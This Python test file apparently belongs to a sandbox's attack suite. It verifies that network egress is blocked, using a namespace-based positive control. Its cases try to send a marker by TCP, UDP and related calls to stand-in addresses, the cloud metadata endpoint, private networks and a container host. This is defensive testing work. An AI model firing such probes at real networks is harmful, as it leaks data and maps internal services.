"""E1: reaching out. The positive control runs in a network namespace of its own where every address is local.

There a server of ours stands for the whole world, so no packet leaves the machine; the sandbox's own namespace has
no route at all.
"""

import sys
from collections.abc import Callable

from tests.attacks.arena import Arena, Ran
from tests.attacks.attack import Attack, cases

# Becomes root of a new network namespace, makes every address local, listens, and runs the script as a child.
WORLD = """
import contextlib, ctypes, fcntl, os, socket, struct, subprocess, sys, threading
if ctypes.CDLL(None).unshare(0x10000000 | 0x40000000): sys.exit("no network namespace")
with socket.socket() as plain:
    fcntl.ioctl(plain, 0x8914, struct.pack("16sh22x", b"lo", 0x49))  # SIOCSIFFLAGS: up
netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
for family, size in ((socket.AF_INET, 4), (socket.AF_INET6, 16)):
    # RTM_NEWROUTE to 0/0 in table local, of type local, scope host, through lo (rtnetlink(7))
    body = struct.pack("BBBBBBBBI", family, 0, 0, 0, 255, 4, 254, 2, 0) + struct.pack("HHI", 8, 4, 1)
    netlink.send(struct.pack("IHHII", 16 + len(body), 24, 0x505, 1, 0) + body)
    netlink.recv(999)
heard, once = open(sys.argv[1], "ab", buffering=0), threading.Event()
def serve(server):
    while True:
        if server.type == socket.SOCK_STREAM:
            with server.accept()[0] as peer: data = peer.recv(999)
        else:
            data = server.recv(999)
        if heard.write(data): once.set()
def listen(family, kind, port):
    server = socket.socket(family, kind)
    server.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", port))
    if kind == socket.SOCK_STREAM:
        server.listen()
    threading.Thread(target=serve, args=(server,), daemon=True).start()
for port in (25, 53, 80, 443):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        listen(socket.AF_INET, kind, port)
listen(socket.AF_INET6, socket.SOCK_STREAM, 443 + 1)
subprocess.run(sys.argv[2:])
once.wait(30)
"""
ON_UNIX = "sendmsg(2) is not observed: its address lies in memory; without a route it fails with ENETUNREACH"


def reached(arena: Arena, ran: Ran) -> bool:
    heard = arena.root / "heard"
    return heard.exists() and arena.values["mark"].encode() in heard.read_bytes()


def world(arena: Arena) -> list[str]:
    return [sys.executable, "-I", "-S", "-c", WORLD, str(arena.root / "heard")]


def sends(name: str, body: str, *, unseen: str = "") -> Attack:
    return Attack(
        name=name,
        script=f"import socket, struct\ntry:\n    {body}\nexcept OSError as error: print(error)",
        evidence=reached,
        world=world,
        code="" if unseen else "egress-denied",
        unseen=unseen,
    )


def tcp(name: str, host: str, port: int) -> Attack:
    return sends(name, f"socket.create_connection(('{host}', {port}), 20).send(b'@mark@')")


def udp(name: str, host: str, port: int) -> Attack:
    return sends(name, f"socket.socket(type=socket.SOCK_DGRAM).sendto(b'@mark@', ('{host}', {port}))")


@cases(
    tcp("tcp", "192.0.2.1", 80),
    tcp("tls", "198.51.100.7", 443),
    tcp("mail", "203.0.113.9", 25),
    tcp("tcp6", "2001:db8::1", 444),
    tcp("metadata-service", "169.254.169.254", 80),
    tcp("private-network", "10.0.0.1", 443),
    tcp("container-host", "172.17.0.1", 80),
    tcp("mapped-address", "::ffff:192.0.2.1", 80),
    udp("udp", "192.0.2.1", 443),
    udp("dns-query", "192.0.2.53", 53),
    sends(
        "dns-over-connected-udp",
        "s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('192.0.2.53', 53)); s.send(b'@mark@')",
    ),
    sends(
        "message-with-an-address",
        "socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'@mark@'], [], 0, ('192.0.2.1', 443))",
        unseen=ON_UNIX,
    ),
    sends(
        "fast-open",
        "socket.socket().sendto(b'@mark@', 0x20000000, ('192.0.2.1', 80))",
    ),
)
def test_egress(attack: Attack, carry_out: Callable[[Attack], None]) -> None:
    carry_out(attack)
